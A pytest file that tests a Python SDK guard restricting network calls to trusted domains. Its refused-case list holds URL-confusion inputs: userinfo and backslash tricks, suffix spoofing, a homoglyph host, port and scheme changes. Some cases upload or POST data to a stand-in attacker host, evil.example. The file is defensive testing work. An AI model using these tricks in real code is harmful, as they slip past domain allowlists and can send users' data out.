"""The SDK's network calls in Python are held to trustedDomains at the call's line: proven
URLs must be trusted, URLs made at run time must start with a whole trusted origin, and
origins are read as a browser reads them."""

from __future__ import annotations

import ast

import pytest

from pyminis.guard.network import Unit, check_network

TRUSTED = ("https://api.good.example",)
HEAD = "from pyminis import tt\nSERVER = 'https://api.good.example'\n"


def refused(body: str, trusted: tuple[str, ...] = TRUSTED, **others: str) -> list[tuple[int, str]]:
    units = [Unit("main", "src/main.py", ast.parse(HEAD + body))]
    units += [Unit(name, f"src/{name}.py", ast.parse(text)) for name, text in others.items()]
    return [(p.location.line or 0, p.message) for p in check_network(units, trusted)]


ALLOWED = [
    "tt.request('https://api.good.example/scores')",
    "tt.request(SERVER + '/scores/' + name)",
    "tt.request(f'{SERVER}/scores/{name}')",
    "tt.request('{}/scores/{}'.format(SERVER, name))",
    "tt.request('%s' % 'https://api.good.example/x')",
    "tt.download_file(url=SERVER + '/level/' + str(n) + '.bin')",
    "tt.connect_socket('wss://api.good.example/live')",
    "tt.request('HTTPS://API.GOOD.EXAMPLE:443/x')",
    "tt.request(SERVER + '?q=' + q)",
    "tt.request('assets/level.json')",
    "other.request(whatever)",  # not the SDK
]

REFUSED = [
    ("tt.request('https://evil.example/api')", "https://evil.example"),
    ("tt.request('https://api.good.example@evil.example/x')", "evil.example"),
    ("tt.request('https://evil.example\\\\@api.good.example/x')", "evil.example"),
    ("tt.request('https://api.good.example.evil.example/x')", "api.good.example.evil.example"),
    ("tt.request('//evil.example/x')", "evil.example"),
    ("tt.request('https://api.good.example:8443/x')", "8443"),
    ("tt.request('http://api.good.example/x')", "http://api.good.example"),
    ("tt.request('https://api.good.exampl\\u0435/x')", "xn--"),
    ("tt.request(SERVER + user_path)", "made at run time"),
    ("tt.request(SERVER + '.evil.example/' + x)", "api.good.example.evil.example"),
    ("tt.request(SERVER + x)", "made at run time"),
    ("tt.request(url)", "made at run time"),
    ("tt.request(f'https://{host}/x')", "made at run time"),
    ("tt.upload_file('https://evil.example/up', path)", "evil.example"),
    ("tt.connect_socket(f'wss://evil.example/{room}')", "evil.example"),
    ("tt.downloadFile({'url': 'https://evil.example/a'})", "evil.example"),
    ("wx.request({'url': 'https://evil.example/a'})", "evil.example"),
    ("TTMinis.game.connectSocket({'url': 'wss://evil.example/s'})", "evil.example"),
]


@pytest.mark.parametrize("call", ALLOWED)
def test_trusted_or_proven_urls_pass(call: str) -> None:
    assert refused(f"async def go(name, n, q):\n    await {call}\n") == []


@pytest.mark.parametrize(("call", "said"), REFUSED, ids=[c for c, _ in REFUSED])
def test_untrusted_or_unproven_urls_are_refused_at_the_call(call: str, said: str) -> None:
    found = refused(f"async def go(url, host, user_path, x, room, path):\n    await {call}\n")
    assert len(found) == 1 and found[0][0] == 4, found
    assert said in found[0][1]


def test_no_trusted_domains_at_all_refuses_every_request() -> None:
    (problem,) = refused("tt.request('https://api.good.example/x')\n", trusted=())
    assert "not a trusted domain" in problem[1]


def test_constants_from_the_games_own_modules_are_followed() -> None:
    body = "from settings import API\nimport settings\ntt.request(API + '/a')\ntt.request(settings.API + '/b')\n"
    assert refused(body, settings="API = 'https://api.good.example'\n") == []
    assert [line for line, _ in refused(body, settings="API = 'https://evil.example'\n")] == [5, 6]


def test_a_reassigned_name_is_not_a_constant() -> None:
    body = "BASE = 'https://api.good.example'\nBASE = pick()\ntt.request(BASE + '/x')\n"
    assert [line for line, _ in refused(body)] == [5]


def test_aliases_of_the_sdk() -> None:
    body = ("from pyminis import tt as t\nfrom pyminis.tt import request as r\n"
            "import pyminis.tt as sdk\n"
            "t.request('https://evil.example')\nr('https://evil.example')\n"
            "sdk.download_file('https://evil.example')\n")
    assert [line for line, _ in refused(body)] == [6, 7, 8]


def test_a_build_refuses_it_with_the_python_line(tmp_path) -> None:  # type: ignore[no-untyped-def]
    from pyminis.errors import CompileError
    from pyminis.pipeline import build
    from tests.hardening.project import make_project

    main = ("from pyminis import tt\n\n\nasync def send(score: int) -> None:\n"
            "    await tt.request('https://evil.example/api', method='POST')\n")
    project = make_project(tmp_path / "game", main=main)
    with pytest.raises(CompileError) as caught:
        build(project, "h5")
    assert str(caught.value).startswith("src/main.py:5:11: PM201: request() goes to "
                                        "https://evil.example, which is not a trusted domain")
